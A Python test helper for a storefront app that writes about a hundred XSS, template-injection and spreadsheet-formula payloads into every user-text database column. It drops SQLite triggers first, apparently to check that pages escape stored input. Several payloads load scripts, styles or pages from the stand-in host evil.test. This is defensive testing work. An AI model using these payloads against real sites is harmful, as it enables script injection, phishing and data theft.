"""A hundred ways to make a page run or show what nobody meant, and where words are kept."""

from sqlalchemy import String, cast, text, update
from sqlalchemy.orm import Session

from storefront.db.base import Base
from storefront.db.engine import Database

TRIGGERS = "SELECT name FROM sqlite_master WHERE type = 'trigger'"
_RUN = "window.__ran=1"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script >{_RUN}</script >",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</option></select><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
    "<script src=//evil.test/x.js></script>",
    "<script src=data:,window.__ran=1></script>",
    f"<script type=module>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text x=9 y=9>x</text></a></svg>',
    f"<svg><set onbegin={_RUN} attributeName=x to=1>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}">',
    f"<IMG SRC=x ONERROR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src='x' onerror='{_RUN}'>",
    f"<img src=x:x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f"<img src=`x` onerror={_RUN}>",
    "<img src=https://evil.test/pixel.gif>",
    "<img srcset=https://evil.test/a>",
    f"<picture><source srcset=x><img onerror={_RUN} src=x>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<html onmouseover={_RUN}>",
    f'<iframe src="javascript:{_RUN}"></iframe>',
    '<iframe srcdoc="<script>parent.__ran=1</script>">',
    f"<iframe onload={_RUN}></iframe>",
    "<iframe src=//evil.test></iframe>",
    f'<object data="javascript:{_RUN}"></object>',
    "<object data=data:text/html,x></object>",
    f'<embed src="javascript:{_RUN}">',
    "<embed src=//evil.test/x.swf>",
    f'<a href="javascript:{_RUN}">x</a>',
    f'<a href="java&#10;script:{_RUN}">x</a>',
    f'<a href="&#106;avascript:{_RUN}">x</a>',
    f"<a href=' javascript:{_RUN}'>x</a>",
    "<a href=https://evil.test>Claim your gift</a>",
    "<a href=//evil.test target=_blank>x</a>",
    f'<form action="javascript:{_RUN}"><button>x</button></form>',
    "<form action=https://evil.test><input name=code></form>",
    f'<button formaction="javascript:{_RUN}">x</button>',
    f"<isindex action=javascript:{_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=import href=//evil.test>",
    "<style>*{background:url(//evil.test)}</style>",
    "<style>@import '//evil.test/x.css'</style>",
    "<div style=background:url(//evil.test)>x</div>",
    f'<div style="width:expression({_RUN})">',
    f"<div onmouseover={_RUN} style=position:fixed;inset:0>x</div>",
    f"<x onclick={_RUN}>x</x>",
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f" autofocus onfocus={_RUN} x=",
    f'" autofocus onfocus={_RUN} x="',
    f"javascript:{_RUN}",
    f"  javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    "data:text/html,<script>window.__ran=1</script>",
    "//evil.test/x",
    "https://evil.test/claim?code=1",
    "www.evil.test",
    "claim@evil.test",
    "tel:+1900123456",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "%(name)s %s %d {0} {name}",
    "<%= 7*7 %>",
    "&lt;script&gt;window.__ran=1&lt;/script&gt;",
    "\u202e<b>rtl</b>\u2066",
    "<plaintext>",
    "<xmp><script>window.__ran=1</script>",
    "<!-- open",
    "<![CDATA[",
    "<?php x ?>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f'\\"><script>{_RUN}</script>',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    '=HYPERLINK("https://evil.test")',
    "@SUM(1)|cmd",
    f"]]></script><svg/onload={_RUN}>",
)

WORDS = {
    "storefront_merchants": ("name", "tax_number"),
    "storefront_members": ("name",),
    "storefront_stores": ("name", "address", "hours"),
    "storefront_channels": ("name",),
    "storefront_campaigns": ("name",),
    "storefront_placements": ("name",),
    "storefront_products": ("name", "description"),
    "storefront_product_images": ("alt",),
    "storefront_variants": ("name", "sku"),
    "storefront_offers": ("name",),
    "storefront_order_discounts": ("name", "code"),
    "storefront_order_refusals": ("name", "code"),
    "storefront_line_items": ("title", "variant_name", "sku"),
    "storefront_order_contacts": ("name", "phone", "note"),
    "storefront_order_notes": ("words",),
    "storefront_orders": ("shipping_name", "tax_name"),
    "storefront_shipments": ("carrier", "tracking_number"),
    "storefront_shipping_rates": ("name",),
    "storefront_tax_rates": ("name", "region"),
    "storefront_shop_texts": ("body",),
    "storefront_shop_pictures": ("alt",),
    "storefront_product_imports": ("file_name",),
    "storefront_import_faults": ("column", "value", "hint"),
    "storefront_saved_views": ("name",),
    "storefront_api_tokens": ("name",),
    "storefront_counter_devices": ("name",),
    "storefront_gifts": ("title",),
    "storefront_gift_contacts": ("sender", "recipient", "words", "thanks"),
}
"""The columns in which words that people choose are kept, with their tables."""


def write_everywhere(database: Database, words: str) -> None:
    """Put words wherever people's words are kept, on SQLite; a number keeps apart what must differ.
    Even what is never changed: for this, what guards it is taken away."""
    with database.begin() as session:
        for name in session.scalars(text(TRIGGERS)).all():
            session.execute(text(f'DROP TRIGGER "{name}"'))
        for name, columns in WORDS.items():
            table = Base.metadata.tables[name]
            said = words + " " + cast(table.c.id, String)
            session.execute(update(table).values(dict.fromkeys(columns, said)))
        _write_address(session, words)


def _write_address(session: Session, words: str) -> None:
    address = {"line1": words, "city": words, "postcode": words, "country": "US"}
    contacts = Base.metadata.tables["storefront_order_contacts"]
    session.execute(update(contacts).values(address=address))
